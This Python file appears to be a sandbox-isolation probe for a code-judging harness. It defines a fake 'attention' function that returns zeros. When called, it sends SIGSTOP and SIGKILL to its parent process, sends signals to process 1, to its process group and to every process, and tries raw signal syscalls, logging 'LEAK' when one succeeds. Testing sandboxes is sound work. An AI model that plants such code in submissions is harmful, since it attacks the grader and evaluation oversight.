"""Signals to the parent, the group, process 1 and everyone, by every call there is. Seen: cms-dev/cms#58, DMOJ/judge-server#588."""
import ctypes
import os
import platform
import signal

import torch

NUMBERS = {
    "x86_64": {"tgkill": 234, "tkill": 200, "rt_sigqueueinfo": 129, "pidfd_open": 434},
    "aarch64": {"tgkill": 131, "tkill": 130, "rt_sigqueueinfo": 138, "pidfd_open": 434},
}


def _try(name, call, *arguments):
    try:
        call(*arguments)
    except OSError:
        return
    print("LEAK", name, arguments, flush=True)


def attention(q, k, v, mask=None):
    parent = os.getppid()
    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
        _try("kill", os.kill, parent, number)
    for target in (1, 0, -1):
        _try("kill", os.kill, target, signal.SIGCONT)
    _try("killpg", os.killpg, os.getpgrp(), signal.SIGCONT)
    _try("pidfd_open", os.pidfd_open, parent)
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = NUMBERS[platform.machine()]
    info = (ctypes.c_char * 128)()
    tries = (("tgkill", (parent, parent, 18)), ("tkill", (parent, 18)), ("rt_sigqueueinfo", (parent, 18, info)), ("pidfd_open", (parent, 0)))
    for name, arguments in tries:
        if libc.syscall(numbers[name], *arguments) != -1:
            print("LEAK", name, flush=True)
    return torch.zeros_like(v)
